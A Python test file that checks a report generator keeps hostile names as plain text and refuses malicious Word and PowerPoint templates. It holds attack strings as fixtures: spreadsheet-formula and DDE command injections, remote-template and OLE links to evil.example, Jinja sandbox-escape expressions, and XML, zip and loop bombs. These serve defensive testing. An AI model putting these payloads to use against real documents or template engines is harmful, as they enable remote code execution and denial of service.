"""Word and PowerPoint files: what strangers wrote stays text, templates reach nothing, nothing is fetched."""

import io
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import polars as pl
import pytest
from lying_archives import MOST, endless, lying, peak

import evaluator as ev
from evaluator import limits
from evaluator.errors import EvaluationError, Issue
from evaluator.labels import Text
from evaluator.reports import ReportOptions, report
from evaluator.reports.own_files import MOST_BYTES, own_file

docx = pytest.importorskip("docx", reason="the extra office is not here")
pptx = pytest.importorskip("pptx", reason="the extra office is not here")

NAMES = (
    "=HYPERLINK(\"http://evil/\",\"x\")", "{{ title }}{% for x in [1] %}", "{_{ title }_}", "<w:t>x</w:t>",
    "]]>&amp;&#0;", "http://evil.example/", "@SUM(1)", "_x0041_", "a\x0bb\x0c\x07c", "\u202eevil\u2069",
    "INCLUDETEXT http://evil/", "+cmd|' /C calc'!A0", "</a:t></a:r>", "x" * 3000, "DDEAUTO c:\\\\x",
)  # fmt: skip


@pytest.fixture(scope="module")
def demo(demo_study):
    return demo_study[1].run()


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory):
    """The evaluation of three customers, for attacks that come before a customer is told of."""
    folder = tmp_path_factory.mktemp("small") / "study"
    shutil.copytree(Path(__file__).parents[1] / "studies" / "small", folder)
    return ev.Study(folder).run()


@pytest.fixture(scope="module")
def hostile(demo):
    """The demo's evaluation with hostile names of customers, their owners, and of itself."""
    evaluation = demo
    named = pl.Series("name", [NAMES[place % len(NAMES)] for place in range(evaluation.results.height)])
    found = evaluation.decisions
    who = [NAMES[place % len(NAMES)] for place in range(found.customers.height)]
    customers = found.customers.with_columns(name=pl.Series(who), owner=pl.Series(who), reason=pl.Series(who))
    return replace(
        evaluation, results=evaluation.results.with_columns(named),
        decisions=replace(found, customers=customers), title=Text(zh=NAMES[1], en=NAMES[0]),
    )  # fmt: skip


def made(hostile, folder: Path, kind: str, language: str = "zh") -> Path:
    return report(hostile, folder / f"report.{kind}", language=language, noted=lambda issue: None)


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


@pytest.mark.parametrize("language", ["zh", "en"])
@pytest.mark.parametrize("kind", ["docx", "pptx"])
def test_hostile_names_stay_text(hostile, tmp_path: Path, kind: str, language: str) -> None:
    """No field, link, element or place comes of a name; every part is well formed, and says the names."""
    path = made(hostile, tmp_path, kind, language)
    held = parts(path)
    for name, content in held.items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(content)
        if name.endswith(".rels"):
            assert b"External" not in content, name
        assert not re.search(r"vba|activeX|oleObject", name)
    text = b"".join(content for name, content in held.items() if name.endswith(".xml")).decode()
    assert "<a:hlinkClick" not in text
    assert "<w:hyperlink" not in text
    assert set(re.findall(r'w:instr="([^"]*)"', text)) <= {"PAGE"}
    assert "<w:instrText" not in text
    shown = _said(path, kind)
    for name in (NAMES[0], NAMES[3], NAMES[5], NAMES[6]):
        assert name in shown


def _said(path: Path, kind: str) -> str:
    if kind == "docx":
        document = docx.Document(str(path))
        cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
        return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])
    return "\n".join(
        cell.text
        for slide in pptx.Presentation(str(path)).slides
        for shape in slide.shapes
        if shape.has_table
        for row in shape.table.rows
        for cell in row.cells
    )


def test_a_title_is_no_template(hostile, tmp_path: Path) -> None:
    """It stands in body, footer and properties as it was written."""
    path = made(hostile, tmp_path, "docx")
    document = docx.Document(str(path))
    assert document.paragraphs[0].text == NAMES[1]
    assert NAMES[1] in document.sections[0].footer.paragraphs[0].text
    assert document.core_properties.title == NAMES[1]
    deck = pptx.Presentation(str(made(hostile, tmp_path, "pptx")))
    assert deck.slides[0].shapes.title.text_frame.text == NAMES[1]
    assert deck.core_properties.title == NAMES[1]


def like_formulas(node):
    """Return a node of a tree with names that a spreadsheet would compute, all the way down."""
    below = {"children": tuple(map(like_formulas, node.children))} if hasattr(node, "children") else {}
    return node.model_copy(update={"name": Text(zh=f"=cmd|{node.id}", en=f"=cmd|{node.id}"), **below})


def test_no_cell_behind_a_chart_is_a_formula(demo, tmp_path: Path) -> None:
    """Classes and indicators named like formulas: the library alone would write them as such."""
    evaluation = demo
    matrix = evaluation.tree.matrices[0]
    classes = tuple(
        one.model_copy(update={"name": Text(zh=f"=A{number}", en=f"=A{number}")})
        for number, one in enumerate(matrix.classes, start=1)
    )
    matrix = matrix.model_copy(update={"classes": classes})
    root = like_formulas(evaluation.model.tree.root)
    tree = evaluation.model.tree.model_copy(update={"root": root, "matrices": (matrix,)})
    fields = {name: getattr(evaluation.model, name) for name in type(evaluation.model).model_fields}
    model = type(evaluation.model).model_construct(**{**fields, "tree": tree})
    path = report(replace(evaluation, tree=tree, model=model), tmp_path / "r.pptx", noted=lambda issue: None)
    books = [content for name, content in parts(path).items() if name.endswith(".xlsx")]
    cells = [
        cell
        for book in books
        for row in openpyxl.load_workbook(io.BytesIO(book)).active.iter_rows()
        for cell in row
    ]
    assert any(str(cell.value).startswith("=") for cell in cells)
    assert {cell.data_type for cell in cells if str(cell.value).startswith("=")} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


ESCAPES = (
    "''.__class__.__mro__", "title.__class__", "block.__globals__", "message.__code__", "parts.__class__",
    "parts[0].__init__.__globals__", "has.__wrapped__", "self.__dict__", "cycler.__init__.__globals__.os",
    "lipsum.__globals__", "''|attr('__class__')", "'{0.__class__}'.format(title)", "text.__closure__",
)  # fmt: skip


@pytest.mark.parametrize("expression", ESCAPES)
@pytest.mark.parametrize("kind", ["docx", "pptx"])
def test_a_template_reaches_nothing_but_its_places(small, tmp_path: Path, kind, expression) -> None:
    issues = filled(small, tmp_path, kind, f"{{{{ {expression} }}}}")
    codes = {issue.code for issue in issues} - {"REPORT-857", "REPORT-858"}  # of PowerPoint's own layouts
    assert codes
    assert codes <= {"REPORT-820", "REPORT-821", "REPORT-822", "REPORT-824", "REPORT-852"}
    if (tmp_path / f"r.{kind}").exists():  # what is not known is empty, and was named
        assert "class" not in _everything(tmp_path / f"r.{kind}", kind)


@pytest.mark.parametrize("kind", ["docx", "pptx"])
@pytest.mark.parametrize(
    "bomb",
    ["{% for a in range(99999999) %}{% endfor %}", "{% for a in parts %}{% for b in parts %}{% for c in parts %}"
     "{% for d in parts %}{% for e in parts %}{% for f in parts %}{% for g in parts %}{{ a.id }}{% endfor %}"
     "{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
     "{{ title * 99999999 }}", "{{ 9 ** 99999999 }}"],
)  # fmt: skip
def test_a_template_cannot_exhaust_the_machine(small, tmp_path: Path, monkeypatch, kind, bomb) -> None:
    """Under a limit of steps that loops reach within a second."""
    monkeypatch.setenv(limits.TEMPLATE_STEPS.variable, "200000")
    assert {issue.code for issue in filled(small, tmp_path, kind, bomb)} & {
        "REPORT-822", "REPORT-825", "REPORT-852",
    }  # fmt: skip


def filled(evaluation, folder: Path, kind: str, text: str) -> list[Issue]:
    """Return what is said of a template that holds a text."""
    if kind == "docx":
        document = docx.Document()
        document.add_paragraph(text)
        document.save(str(folder / "own.docx"))
    else:
        deck = pptx.Presentation()
        slide = deck.slides.add_slide(deck.slide_layouts[5])
        slide.shapes.title.text_frame.text = text
        deck.save(str(folder / "own.pptx"))
    noted: list[Issue] = []
    options = ReportOptions(document="own.docx", slides="own.pptx")
    try:
        ev.report(evaluation, folder / f"r.{kind}", options=options, folder=folder, noted=noted.append)
    except EvaluationError as error:
        return [*noted, *error.issues]
    return noted


def _everything(path: Path, kind: str) -> str:
    if kind == "docx":
        return "\n".join(paragraph.text for paragraph in docx.Document(str(path)).paragraphs)
    return pptx.Presentation(str(path)).slides[0].shapes.title.text_frame.text


def test_a_bomb_of_zeros_is_refused_before_it_is_unpacked(small, tmp_path: Path) -> None:
    document = docx.Document()
    document.save(str(tmp_path / "own.docx"))
    with (
        zipfile.ZipFile(tmp_path / "own.docx", "a", zipfile.ZIP_DEFLATED) as package,
        package.open("word/media/big.png", "w", force_zip64=True) as part,
    ):
        for _ in range(MOST_BYTES // 1_000_000 + 1):
            part.write(bytes(1_000_000))
    options = ReportOptions(document="own.docx")
    with pytest.raises(EvaluationError) as caught:
        report(small, tmp_path / "r.docx", options=options, folder=tmp_path)
    (issue,) = caught.value.issues
    assert (issue.code, "200 MB" in issue.detail["reason"]) == ("REPORT-859", True)


def test_a_template_outside_the_study_is_not_read(folder: Path) -> None:
    """As for every path of a study: a file is sent along with it, or lies elsewhere by its full name."""
    with (folder / "study.yaml").open("a", encoding="utf-8") as file:
        file.write("report: {document: ../own.docx, slides: ../own.pptx}\n")
    with pytest.raises(EvaluationError) as caught:
        ev.Study(folder)
    assert {issue.code for issue in caught.value.issues} == {"STUDY-302"}


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOMB = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
MAINS = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml"}


def field(instruction: str) -> str:
    """Return a field of Word, its instruction in two runs, as Word itself cuts it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (instruction[:1], instruction[1:])
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def tampered(folder: Path, kind: str, change) -> list[Issue]:
    """Return what is said of a plain template whose parts were changed by hand."""
    path = folder / f"own.{kind}"
    (docx.Document() if kind == "docx" else pptx.Presentation()).save(str(path))
    held = parts(path)
    change(held, MAINS[kind])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in held.items():
            package.writestr(name, content)
    with pytest.raises(EvaluationError) as caught:
        own_file(path, MAINS[kind])
    return list(caught.value.issues)


def related(kind: str, target: str, mode: str = "External"):
    def change(held: dict[str, bytes], main: str) -> None:
        folder, _, name = main.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels"
        entry = f'<Relationship Id="x9" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        held[rels] = held[rels].replace(b"</Relationships>", entry.encode() + b"</Relationships>")

    return change


def added(name: str, content: bytes = b"x"):
    return lambda held, main: held.update({name: content})


def inserted(text: str):
    return lambda held, main: held.update(
        {main: held[main].replace(b"<w:sectPr", text.encode() + b"<w:sectPr", 1)}
    )


ACTING = {
    "a template elsewhere": related("attachedTemplate", "https://evil.example/a.dotm"),
    "a picture elsewhere": related("image", "https://evil.example/a.png"),
    "an object elsewhere": related("oleObject", "file://///evil.example/share/a.doc"),
    "a frame elsewhere": related("frame", "//evil.example/a.htm"),
    "macros": added("word/vbaProject.bin"),
    "macros in capitals": added("ppt/VBAPROJECT.BIN"),
    "a control": added("word/activeX/activeX1.xml"),
    "an object inside": added("word/embeddings/oleObject1.bin"),
    "a bomb in relations": lambda held, main: held.update({"word/_rels/a.xml.rels": f"{BOMB}<a>&d;</a>".encode()}),
    "relations in capitals": added(
        "word/_rels/settings.xml.RELS",
        f'<Relationships><Relationship Id="r" Type="{REL}/attachedTemplate" Target="http://evil.example/" '
        f'TargetMode="External"/></Relationships>'.encode(),
    ),
    "a bomb in the text": lambda held, main: held.update({main: f"{BOMB}<a>&d;</a>".encode()}),
}  # fmt: skip
FIELDS = ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "DDE a b", "INCLUDETEXT \"https://evil.example/a.docx\"",
          "INCLUDEPICTURE \"https://evil.example/a.png\" \\d", "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\a.xls\"",
          "IMPORT \"https://evil.example/a.png\"", "DATABASE \\d \"a\"")  # fmt: skip


@pytest.mark.parametrize("kind", ["docx", "pptx"])
@pytest.mark.parametrize("attack", ACTING)
def test_a_template_that_acts_when_it_is_opened_is_refused(tmp_path: Path, kind: str, attack: str) -> None:
    (issue,) = tampered(tmp_path, kind, ACTING[attack])
    assert issue.code in ("REPORT-859", "REPORT-860")
    assert issue.where is not None
    assert [path.name for path in tmp_path.iterdir()] == [f"own.{kind}"]


@pytest.mark.parametrize("instruction", FIELDS)
def test_a_field_that_fetches_or_starts_something_is_refused(tmp_path: Path, instruction: str) -> None:
    escaped = instruction.replace('"', "&quot;")
    (issue,) = tampered(tmp_path, "docx", inserted(field(escaped)))
    assert (issue.code, instruction.split()[0] in str(issue.detail["found"])) == ("REPORT-860", True)
    hidden = f"{escaped[:2]}<!-- -->{escaped[2:]}"
    (issue,) = tampered(tmp_path, "docx", inserted(field(hidden)))
    assert issue.code == "REPORT-860"
    simple = f'<w:p><w:fldSimple w:instr="{escaped}"/></w:p>'
    (issue,) = tampered(tmp_path, "docx", inserted(simple))
    assert issue.code == "REPORT-860"


def test_fields_that_only_count_pages_and_links_to_click_stay(tmp_path: Path) -> None:
    path = tmp_path / "own.docx"
    docx.Document().save(str(path))
    held = parts(path)
    inserted(field(" PAGE ") + field(" HYPERLINK &quot;https://firm.example/&quot; ") + field("TOC \\o"))(
        held, MAINS["docx"]
    )
    related("hyperlink", "https://firm.example/")(held, MAINS["docx"])
    with zipfile.ZipFile(path, "w") as package:
        for name, content in held.items():
            package.writestr(name, content)
    assert own_file(path, MAINS["docx"]) == path.read_bytes()


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04 cut", b"{\\rtf1 \\object}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 90]
)
def test_what_is_no_such_file_is_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "own.docx").write_bytes(content)
    with pytest.raises(EvaluationError) as caught:
        own_file(tmp_path / "own.docx", MAINS["docx"])
    assert [issue.code for issue in caught.value.issues] == ["REPORT-859"]


@pytest.mark.parametrize("kind", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=range(3))
@pytest.mark.parametrize("part", ["word/document.xml", "word/media/a.png"])
def test_a_part_that_lies_is_unpacked_no_further(tmp_path: Path, part: str, kind: int) -> None:
    document = io.BytesIO()
    docx.Document().save(document)
    with zipfile.ZipFile(document) as package:
        others = {name: package.read(name) for name in package.namelist() if name != part}
    path = lying(tmp_path / "own.docx", part, kind, others)

    def refused() -> None:
        with pytest.raises(EvaluationError) as caught:
            own_file(path, MAINS["docx"])
        assert [issue.code for issue in caught.value.issues] == ["REPORT-859"]

    assert peak(refused) < MOST


def test_a_template_of_parts_without_end_is_refused_before_it_is_taken_apart(tmp_path: Path) -> None:
    path = endless(tmp_path / "own.docx", 150_000)

    def refused() -> None:
        with pytest.raises(EvaluationError) as caught:
            own_file(path, MAINS["docx"])
        assert [issue.code for issue in caught.value.issues] == ["REPORT-859"]

    assert peak(refused) < MOST
